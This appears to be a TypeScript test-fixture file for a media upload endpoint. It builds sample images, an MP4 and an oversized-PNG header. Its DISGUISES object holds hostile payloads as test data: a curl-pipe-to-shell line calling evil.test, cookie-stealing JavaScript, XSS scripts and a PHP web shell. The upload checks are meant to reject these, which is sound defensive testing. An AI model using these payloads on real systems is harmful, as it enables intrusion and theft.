// Test files made on the spot: images from sharp (one with EXIF GPS), a minimal MP4 built box by
// box, a PNG header that declares 20000×20000 px, and the disguises uploads must see through.
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

export async function jpegWithGps(width = 800, height = 600): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: "#c33" } })
    .jpeg()
    .withExif({
      IFD0: { Make: "SpyCam", Model: "GPS-9000" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "31/1 14/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "121/1 28/1 0/1" },
    })
    .toBuffer();
}

export const png = (width = 300, height = 200) =>
  sharp({ create: { width, height, channels: 4, background: "#3c3a" } })
    .png()
    .toBuffer();

export const webp = (width = 1200, height = 900) =>
  sharp({ create: { width, height, channels: 3, background: "#33c" } })
    .webp()
    .toBuffer();

/** Three frames of 30×20. */
export async function animatedGif(): Promise<Buffer> {
  const frames = await Promise.all(
    ["red", "green", "blue"].map((c) =>
      sharp({ create: { width: 30, height: 20, channels: 3, background: c } })
        .png()
        .toBuffer(),
    ),
  );
  return sharp(frames, { join: { animated: true } })
    .gif()
    .toBuffer();
}

function box(type: string, ...payload: Buffer[]): Buffer {
  const body = Buffer.concat(payload);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length, 0);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, body]);
}

/** ftyp + moov(mvhd, trak(tkhd)) + mdat: enough structure for our probe (and for players to read the header). */
export function mp4({ brand = "isom", durationMs = 2500, width = 640, height = 360 } = {}): Buffer {
  const ftyp = box("ftyp", Buffer.from(brand, "latin1"), Buffer.from([0, 0, 2, 0]), Buffer.from("isomiso2avc1mp41"));
  const mvhd = Buffer.alloc(100);
  mvhd.writeUInt32BE(1000, 12); // timescale
  mvhd.writeUInt32BE(durationMs, 16); // duration
  mvhd.writeUInt32BE(0x00010000, 20); // rate 1.0
  mvhd.writeUInt16BE(0x0100, 24); // volume 1.0
  mvhd.writeUInt32BE(2, 96); // next track id
  const tkhd = Buffer.alloc(84);
  tkhd.writeUInt32BE(0x00000003, 0); // version 0, flags enabled|in movie
  tkhd.writeUInt32BE(1, 12); // track id
  tkhd.writeUInt32BE(durationMs, 20);
  tkhd.writeUInt32BE(width * 65536, 76);
  tkhd.writeUInt32BE(height * 65536, 80);
  const moov = box("moov", box("mvhd", mvhd), box("trak", box("tkhd", tkhd)));
  return Buffer.concat([ftyp, moov, box("mdat", Buffer.alloc(256, 7))]);
}

function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([len, typeAndData, crc]);
}

/** A small file whose header promises a huge image: it must be refused before anything is decoded. */
export function pngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", deflateSync(Buffer.alloc(64 * 1024))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

export const DISGUISES = {
  html: Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
  svg: Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>',
  ),
  xmlSvg: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  script: Buffer.from("#!/bin/sh\ncurl http://evil.test | sh\n"),
  js: Buffer.from("const x = document.cookie; fetch('/steal?c=' + x);"),
  php: Buffer.from("<?php system($_GET['c']); ?>"),
  mov: mp4({ brand: "qt  " }),
  empty: Buffer.alloc(0),
} as const;

/** POSTs a multipart upload the way a browser would. */
export async function uploadFile(
  app: { request: (path: string, init: RequestInit) => Response | Promise<Response> },
  token: string,
  bytes: Uint8Array,
  opts: {
    filename?: string;
    type?: string;
    fields?: Record<string, string | string[]>;
    /** Default: the back office's upload. */
    path?: string;
    headers?: Record<string, string>;
  } = {},
) {
  const form = new FormData();
  form.append("file", new Blob([bytes], { type: opts.type ?? "application/octet-stream" }), opts.filename ?? "upload");
  for (const [k, v] of Object.entries(opts.fields ?? {})) {
    for (const one of Array.isArray(v) ? v : [v]) form.append(k, one);
  }
  const res = await app.request(opts.path ?? "/merchant/v1/media", {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, ...opts.headers },
    body: form,
  });
  const text = await res.text();
  let body: Record<string, unknown> & {
    error?: { code: string; message: string; details?: { path: string; message: string }[] };
  } = {};
  try {
    body = text ? JSON.parse(text) : {};
  } catch {
    body = { text };
  }
  return { status: res.status, headers: res.headers, body };
}
